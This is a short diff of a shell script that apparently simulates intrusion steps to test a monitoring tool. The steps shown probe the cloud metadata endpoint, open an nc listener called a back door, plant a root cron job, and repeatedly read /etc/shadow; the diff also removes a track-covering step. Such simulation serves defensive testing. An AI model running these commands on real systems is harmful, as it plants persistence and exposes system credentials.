@@ -16,14 +16,9 @@ echo 'GET /latest/meta-data/' | nc -w 1 169.254.169.254 80 2>/dev/null
 
 step # It opens a back door
 nc -l -p 4444 &
-door=$!
 
 step # It plants a job
-mkdir -p /etc/cron.d && echo '* * * * * root /var/tmp/sh' >/etc/cron.d/update
-
-step # It covers its tracks
-kill "$door"
-rm /var/tmp/sh
+echo '* * * * * root /var/tmp/sh' >/etc/cron.d/update
 
 step # It reads the password file a thousand times more: only the count grows
 for _ in $(seq 1000); do read -r _ </etc/shadow; done
